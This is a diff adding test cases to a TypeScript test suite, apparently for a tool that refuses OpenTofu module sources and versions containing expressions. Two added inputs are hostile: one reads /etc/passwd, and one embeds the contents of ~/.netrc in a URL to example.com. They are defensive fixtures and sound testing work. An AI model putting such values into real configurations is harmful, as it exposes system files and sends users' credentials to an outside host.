@@ -36,6 +36,17 @@ describe("a stack that is prepared", () => {
       "the existing version of the stack: module.m must have a source that init can download, got the folder '../m'",
     );
   });
+
+  test.each<JsonObject>([
+    { source: '${file("/etc/passwd")}' },
+    { source: 'https://example.com/${urlencode(file("~/.netrc"))}.zip' },
+    { source: "a/b/c", version: "${local.v}" },
+    { source: "%{ if true }a/b/c%{ endif }" },
+  ])("fails before a download that OpenTofu would evaluate: %j", (call) => {
+    expect(() => plannable({ module: { m: call } })).toThrow(
+      "the stack: module.m must have a source and a version without expressions; write them out",
+    );
+  });
 });
 
 describe("values of variables", () => {
